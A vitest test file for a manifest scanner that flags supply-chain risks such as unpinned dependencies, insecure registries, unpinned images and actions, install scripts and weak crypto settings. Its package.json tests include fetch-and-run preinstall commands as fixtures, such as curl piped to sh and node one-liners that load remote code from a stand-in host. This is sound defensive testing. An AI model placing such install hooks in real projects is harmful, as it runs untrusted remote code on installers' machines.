import { describe, expect, it } from "vitest";
import { findInManifest } from "./find-in-manifest.ts";

function found(path: string, text: string): string[] {
  return findInManifest(path, text).map(
    ({ ruleId, startLine }) => `${ruleId.slice("manifest-".length)}:${String(startLine)}`,
  );
}

const sha = "8f4b7f84864484a7bf31766abe9204da3cbe65b3";

function packageJson(...entries: string[]): string {
  return `{\n  "name": "a",\n  "dependencies": {\n${entries.map((entry) => `    ${entry}`).join(",\n")}\n  }\n}\n`;
}

describe("package.json", () => {
  it.each([
    ['"a": "*"', "unpinned:4"],
    ['"a": "latest"', "unpinned:4"],
    ['"a": ">=1.2.0"', "unpinned:4"],
    ['"a": "owner/repo"', "git-dependency:4"],
    ['"a": "git+https://git.example/a.git#main"', "git-dependency:4"],
    ['"a": "git+ssh://git@github.com/a/b.git"', "git-dependency:4"],
    ['"a": "http://files.example/a.tgz"', "insecure-source:4"],
    ['"a": "git://github.com/a/b.git"', "insecure-source:4"],
    ['"a": "https://files.example/a.tgz"', "url-dependency:4"],
    ['"a": "npm:b@*"', "unpinned:4"],
  ])("finds %s", (entry, expected) => {
    expect(found("package.json", packageJson(entry))).toEqual([expected]);
  });

  it.each([
    ...['"a": "^1.2.0"', '"a": "1.2.0"', '"a": "~1"', '"a": ">=1 <2"', '"a": "1.x"', '"a": "workspace:*"'],
    ...[
      '"a": "file:../a"',
      `"a": "owner/repo#${sha}"`,
      `"a": "git://github.com/a/b.git#${sha}"`,
      '"a": "npm:b@^2.0.0"',
      '"a": "catalog:"',
      '"a": "1 || 2"',
    ],
  ])("lets %s be", (entry) => {
    expect(found("web/package.json", packageJson(entry))).toEqual([]);
  });

  it("lets peer dependencies be as wide as they like", () => {
    expect(found("package.json", '{\n  "peerDependencies": {\n    "a": "*"\n  }\n}')).toEqual([]);
  });

  it("finds install scripts, and those that load code", () => {
    const scripts = (text: string): string => `{\n  "scripts": {\n    ${text}\n  }\n}`;
    expect(found("package.json", scripts('"postinstall": "node build.js"'))).toEqual(["install-script:3"]);
    expect(found("package.json", scripts('"preinstall": "curl https://a.example/x | sh"'))).toEqual([
      "loading-install-script:3",
    ]);
    const refuses = String.raw`node -e \"if (!ok) throw new Error('Use yarn for installing: https://yarnpkg.com/en/docs/install')\"`;
    expect(found("package.json", scripts(`"preinstall": "${refuses}"`))).toEqual(["install-script:3"]);
  });

  it.each([
    String.raw`node -e \"require('https').get('https://a.example/x.js', run)\"`,
    String.raw`node -e \"fetch('https://a.example/x').then(run)\"`,
    "npx --yes https://a.example/x.tgz",
    "git clone https://a.example/x && x/run",
  ])("finds that the install script %s loads code", (loading) => {
    const text = `{\n  "scripts": {\n    "preinstall": "${loading}"\n  }\n}`;
    expect(found("package.json", text)).toEqual(["loading-install-script:3"]);
  });

  it("lets scripts that nobody's install runs be", () => {
    const scripts = (text: string): string => `{\n  "scripts": {\n    ${text}\n  }\n}`;
    expect(found("package.json", scripts('"build": "node build.js", "prepare": "husky"'))).toEqual([]);
  });
});

it.each([
  [".npmrc", "strict-ssl=false", ["unverified-source:1"]],
  [".npmrc", "registry=http://npm.corp.example/", ["insecure-source:1"]],
  [".npmrc", "registry=https://npm.corp.example/", []],
  [
    ".yarnrc.yml",
    'npmRegistryServer: "http://npm.corp.example"\nenableStrictSsl: false\n# enableStrictSsl: false',
    ["insecure-source:1", "unverified-source:2"],
  ],
  [
    "etc/pip.conf",
    "[global]\nindex-url = http://pypi.corp.example/simple\ntrusted-host = pypi.corp.example\ntimeout = 60",
    ["insecure-source:2", "unverified-source:3"],
  ],
  [
    "requirements.txt",
    "flask\nrequests>=2\njinja2==3.1.4\nclick~=8.1\ndjango>=4,<5",
    ["unpinned:1", "unpinned:2"],
  ],
  [
    "requirements/dev.txt",
    `git+https://github.com/a/b\ngit+https://github.com/a/b@${sha}#egg=b`,
    ["git-dependency:1"],
  ],
  ["requirements.txt", "-r base.txt\n-e .\n./local\n# a comment\npkg==1 ; python_version < '3.9'", []],
  [
    "requirements.txt",
    "--extra-index-url https://pypi.corp.example/simple\n--trusted-host pypi.corp.example",
    ["extra-source:1", "unverified-source:2"],
  ],
  [
    "requirements.txt",
    "-i http://pypi.corp.example/simple\nhttps://a.example/b-1.0.zip",
    ["insecure-source:1", "url-dependency:2"],
  ],
  [
    "pyproject.toml",
    '[tool.poetry.dependencies]\npython = "*"\na = "*"\nb = "^1"\nc = { git = "https://g.example/c", branch = "main" }',
    ["unpinned:3", "git-dependency:5"],
  ],
  [
    "pyproject.toml",
    '[tool.poetry.dependencies]\na = { url = "http://x.example/a.whl" }\nb = { url = "https://x.example/b.whl" }\n[project.urls]\nhome = { url = "https://x.example" }',
    ["insecure-source:2", "url-dependency:3"],
  ],
  ["pyproject.toml", '[project]\nname = "latest"\ndependencies = ["a>=1"]', []],
  [
    "Pipfile",
    '[[source]]\nurl = "http://pypi.example/simple"\nverify_ssl = false',
    ["insecure-source:2", "unverified-source:3"],
  ],
  [
    "pom.xml",
    "<dependency>\n<artifactId>a</artifactId>\n<version>LATEST</version>\n</dependency>",
    ["unpinned:3"],
  ],
  [
    "pom.xml",
    "<dependency>\n<artifactId>a</artifactId>\n<version>[1.0,)</version>\n</dependency>",
    ["unpinned:3"],
  ],
  [
    "pom.xml",
    "<dependency><artifactId>a</artifactId><version>RELEASE</version></dependency>\n<version>1-SNAPSHOT</version>",
    ["unpinned:1"],
  ],
  [
    "pom.xml",
    "<version>1.0-SNAPSHOT</version>\n<dependency>\n<version>${a.version}</version>\n</dependency>",
    [],
  ],
  [
    "pom.xml",
    "<repository>\n<url>http://repo.example/</url>\n</repository>\n<url>http://www.example/</url>",
    ["insecure-source:2"],
  ],
  [
    "build.gradle",
    "implementation 'a.b:c:1.+'\nimplementation 'a.b:c:1.2'\nimplementation(\"a.b:d:$v\")",
    ["unpinned:1"],
  ],
  [
    "build.gradle",
    "implementation group: 'a.b', name: 'c', version: '+'\nimplementation group: 'a', name: 'd', version: '1.2'\nrootProject.name = 'latest'",
    ["unpinned:1"],
  ],
  [
    "gradle/libs.versions.toml",
    'a = { module = "a.b:c", version = "latest.release" }\nd = { module = "a.b:d", version.ref = "d" }',
    ["unpinned:1"],
  ],
  [
    "build.gradle.kts",
    'maven { url = uri("http://repo.example") }\nisAllowInsecureProtocol = true',
    ["insecure-source:1", "insecure-source:2"],
  ],
  [
    "a.csproj",
    '<PackageReference Include="A" Version="*" />\n<PackageReference Include="B" Version="1.2.3" />',
    ["unpinned:1"],
  ],
  [
    "NuGet.config",
    '<add key="corp" value="http://nuget.corp.example/v3/index.json" />',
    ["insecure-source:1"],
  ],
  ["go.mod", "require a.example/b v1.2.3\nreplace a.example/b => ../b", ["replaced-module:2"]],
  [
    "Cargo.toml",
    '[package]\nversion = "1"\n[dependencies]\na = "*"\nb = "1.2"\nc = { git = "https://g.example/c" }\nd = { git = "https://g.example/d", rev = "abc1234" }',
    ["unpinned:4", "git-dependency:6"],
  ],
  [
    "Gemfile",
    "source 'http://rubygems.org'\ngem 'rails'\ngem 'a', github: 'b/a'\ngem 'c', git: 'https://g.example/c', ref: 'abc'",
    ["insecure-source:1", "git-dependency:3"],
  ],
  [
    "composer.json",
    '{\n"require": {\n"a/b": "*",\n"c/d": "dev-main",\n"e/f": "^1.2"\n}\n}',
    ["unpinned:3", "git-dependency:4"],
  ],
  [
    "Dockerfile",
    "ARG V=1\nFROM node AS build\nFROM alpine:latest\nFROM node:24-slim\nFROM build\nFROM scratch\nFROM a:$V",
    ["unpinned-image:2", "unpinned-image:3"],
  ],
  [
    "Dockerfile",
    "FROM a:1\nADD https://a.example/b.tgz /b\nADD --checksum=sha256:1 https://a.example/b.tgz /b\nADD . /c",
    ["url-dependency:2"],
  ],
  [
    "docker-compose.yml",
    "services:\n  db:\n    image: postgres\n  web:\n    image: corp.example:5000/web:1.2",
    ["unpinned-image:3"],
  ],
  ["compose.yaml", "services:\n  web:\n    build: .\n    image: web\n", []],
  ["compose.yaml", "services:\n  web:\n    image: web\n    build:\n      context: .\n", []],
  [
    ".github/workflows/a.yml",
    "    steps:\n      - uses: docker/build-push-action@v6\n        with:\n          image: corp/web\n",
    ["unpinned-action:2"],
  ],
  ["k8s/web.yaml", "      - image: nginx:latest\n      - image: nginx:1.27@sha256:abc", ["unpinned-image:1"]],
  [
    ".github/workflows/ci.yml",
    `- uses: actions/checkout@v4\n- uses: actions/checkout@main\n- uses: a/b@v1\n- uses: a/b@${sha} # v1\n- uses: ./local`,
    ["unpinned-action:2", "unpinned-action:3"],
  ],
  ["src/app.ts", 'const a = "*"; // FROM node', []],
] as const)("%s with %j: %j", (path, text, expected) => {
  expect(found(path, text)).toEqual(expected);
});

it("is not sure of a branch of the actions that an organization shares", () => {
  const sure = (action: string, pinned = `- uses: c/d@${sha}\n`): unknown =>
    findInManifest(".github/workflows/a.yml", `- uses: ${action}@main\n${pinned}`)[0]?.confidence;
  for (const action of ["a/github-actions/deploy", "a/b/.github/workflows/c.yml", "a/b/actions/read"])
    expect(sure(action), action).toBe("low");
  for (const action of ["a/b", "a/b/deploy"]) expect(sure(action), action).toBe("high");
  expect(sure("a/b", ""), "where the file pins nothing").toBe("low");
});

it("names the line's code as its quote, at its place", () => {
  const text = "a\r\nFROM node\r\n";
  const [match] = findInManifest("Dockerfile", text);
  expect(match).toMatchObject({ quote: "FROM node", startLine: 2, cwe: "CWE-829", severity: "low" });
  expect(text.slice(match?.startOffset, match?.endOffset)).toBe("FROM node");
});

describe("settings that name an algorithm", () => {
  it.each([
    ["hash=MD5", "weak-hash:1"],
    ["hashAlg1 = SHA-1", "weak-hash:1"],
    ["app.password.hash-algorithm: md5", "weak-password-hash:1"],
    ["cipher.algorithm=DES/ECB/PKCS5Padding", "weak-cipher:1"],
    ["cryptoAlg2=AES/ECB/PKCS5Padding", "weak-cipher:1"],
    ["jasypt.encryptor.algorithm=PBEWithMD5AndDES", "weak-cipher:1"],
    ["jwt.alg=none", "unsigned-tokens:1"],
  ])("finds %s", (text, expected) => {
    expect(found("src/main/resources/app.properties", text)).toEqual([expected]);
  });

  it.each([
    "# hash=MD5",
    "hash=SHA-256",
    "jdk.tls.disabledAlgorithms=MD5",
    "excluded.ciphers=RC4",
    "legacy.password.hash=MD5",
    "cache.key.hash=MD5",
    "checksum.algorithm=MD5",
    "cipher.algorithm=AES/GCM/NoPadding",
    "rsa.cipher=RSA/ECB/OAEPPadding",
    "jwt.alg=RS256",
    "jwt.issuer=none",
    "hash=MD5 is not used",
    "hmac.algorithm=HmacSHA1",
    "country=DES",
  ])("accepts %s", (text) => {
    expect(found("app.properties", text)).toEqual([]);
  });

  it("reads the keys around a setting of YAML", () => {
    const text = "security:\n  jwt:\n    issuer: none\n    algorithm: none\n  tls:\n    algorithm: none\n";
    expect(found("src/main/resources/application-prod.yml", text)).toEqual(["unsigned-tokens:4"]);
    expect(found("values.yml", text)).toEqual([]);
  });
});
